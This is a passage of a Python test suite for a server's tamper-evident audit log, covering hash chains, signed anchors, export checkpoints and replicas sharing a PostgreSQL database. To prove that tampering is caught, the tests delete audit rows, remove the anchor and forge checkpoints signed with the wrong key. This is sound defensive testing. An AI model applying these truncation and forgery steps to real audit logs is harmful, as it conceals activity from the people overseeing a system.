    code, verdict = verify_cli(server)
    assert (code, verdict["state"], verdict["seq"]) == (1, "tampered", len(rows) + 1)
    assert "removed" in verdict["problem"]
    # Put the cut records back: the chain is whole again, with the new one on the end.
    with table.transaction() as run:
        for r in rows[k:]:
            table.insert(run, r)
    assert verdict_of(server) == intact(len(rows) + 1)


def test_an_export_checkpoint_catches_a_cut_the_anchor_no_longer_can(tmp_path: Path) -> None:
    """The anchor is lost too (the data folder restored, a new replica): the server
    anchors afresh at what is left, and only the off-site checkpoint shows the cut."""
    server = Server(tmp_path / "data").start()
    try:
        make_activity(server)
        records, checkpoint = export_records(server)
        saved = tmp_path / "export.jsonl"
        saved.write_text(export_cli(server))
        assert verdict_of(server, "--checkpoint", str(saved)) == intact(len(records))
        code, verdict = verify_cli(server, "--checkpoint", str(saved))
        assert verdict["anchored"] == checkpoint["seq"] == len(records)

        server.stop()
        k = len(records) // 2
        with AuditTable(server).transaction() as run:
            run("DELETE FROM audit_log WHERE seq > ?", k)
        (server.data_dir / "audit-anchor").unlink()
        server.start()
        created = audit(server)[-1]
        assert (created["seq"], created["actor"], created["action"]) == (
            k + 1, "server", "audit anchor created")
        assert created["detail"]["head"] == k
        assert verdict_of(server) == intact(k + 1)  # the chain and the new anchor agree

        code, verdict = verify_cli(server, "--checkpoint", str(saved))
        assert (code, verdict["state"]) == (1, "truncated"), verdict
        assert f"the checkpoint says record {len(records)} was written" in verdict["problem"]
        human = server.cli_raw("audit", "verify", "--checkpoint", str(saved))
        assert human.returncode == 1 and "TRUNCATED" in human.stdout

        # A checkpoint edited to vouch for less (or made with another key) is refused.
        forged = dict(checkpoint, seq=k)
        (tmp_path / "forged.json").write_text(json.dumps({"checkpoint": forged}))
        code, verdict = verify_cli(server, "--checkpoint", str(tmp_path / "forged.json"))
        assert (code, verdict["state"], verdict["seq"]) == (1, "tampered", None)
        assert "not signed" in verdict["problem"]
        junk = server.cli_raw("audit", "verify", "--checkpoint", str(tmp_path / "export.jsonl~"))
        assert junk.returncode == 2 and "No such file" in junk.stderr
    finally:
        server.stop()


def test_an_anchor_from_another_key_is_moved_aside_and_recorded(tmp_path: Path) -> None:
    server = Server(tmp_path / "data").start()
    try:
        api(server).post("/activations", {})
        head = last_seq(server)
        server.stop()
        anchor = server.data_dir / "audit-anchor"
        key = bytes.fromhex((server.data_dir / "audit-key").read_text().strip())
        good = read_anchor(anchor, key)
        assert good is not None and good.seq == head
        foreign = sign_checkpoint(b"another server's key", good.seq + 5, good.hash, good.at)
        anchor.write_text(json.dumps(foreign.as_dict()))
        server.start()
        rejected = audit(server)[-1]
        assert (rejected["actor"], rejected["action"], rejected["outcome"]) == (
            "server", "audit anchor rejected", "failed")
        assert "not signed" in rejected["detail"]["reason"]
        kept = server.data_dir / rejected["detail"]["kept_as"]
        assert json.loads(kept.read_text())["seq"] == good.seq + 5
        assert oct(kept.stat().st_mode & 0o777) == oct(0o600)
        code, verdict = verify_cli(server)
        assert (code, verdict["ok"], verdict["anchored"]) == (0, True, rejected["seq"])
        assert oct(anchor.stat().st_mode & 0o777) == oct(0o600)
    finally:
        server.stop()


def test_replicas_on_one_postgresql_database_anchor_what_each_wrote(tmp_path: Path) -> None:
    """Two servers, one database, a data folder each (the key shared): appends from both
    never make either report a false truncation; each one's anchor vouches for the
    records up to its own last append, so a cut after that is seen by the replica that
    wrote the records cut, and a deeper cut by both."""
    with postgres_database() as url:
        first = Server(tmp_path / "a", database_url=url).start()
        second_dir = tmp_path / "b"
        second_dir.mkdir(mode=0o700)
        for name in ("audit-key", "admin-token"):
            (second_dir / name).write_text((first.data_dir / name).read_text())
            (second_dir / name).chmod(0o600)
        second = Server(second_dir, database_url=url).start()
        try:
            for _ in range(3):
                api(first).post("/activations", {"tags": {"by": "a"}})
                api(second).post("/activations", {"tags": {"by": "b"}})
            api(second).post("/activations", {"tags": {"by": "b"}})
            table = AuditTable(first)
            rows = table.rows()
            mine = {srv.data_dir: [r["seq"] for r in rows
                                   if r["detail"].get("tags", {}).get("by") == tag]
                    for srv, tag in ((first, "a"), (second, "b"))}
            for srv in (first, second):
                code, verdict = verify_cli(srv)
                assert (code, verdict["ok"], verdict["records"]) == (0, True, len(rows))
                assert verdict["anchored"] == mine[srv.data_dir][-1]  # its own last record
            last_of_first = mine[first.data_dir][-1]
            try:
                with table.transaction() as run:  # the second's last two records
                    run("DELETE FROM audit_log WHERE seq > ?", last_of_first)
                assert verify_cli(first)[0] == 0  # before its anchor, nothing was cut
                code, verdict = verify_cli(second)
                assert (code, verdict["state"], verdict["seq"]) == (
                    1, "truncated", last_of_first + 1)
                with table.transaction() as run:
                    run("DELETE FROM audit_log WHERE seq > ?", last_of_first - 2)
                for srv in (first, second):
                    assert verify_cli(srv)[1]["state"] == "truncated"
            finally:
                table.replace_all(rows)
            for srv in (first, second):
                assert verify_cli(srv)[0] == 0
        finally:
            second.stop()
            first.stop()
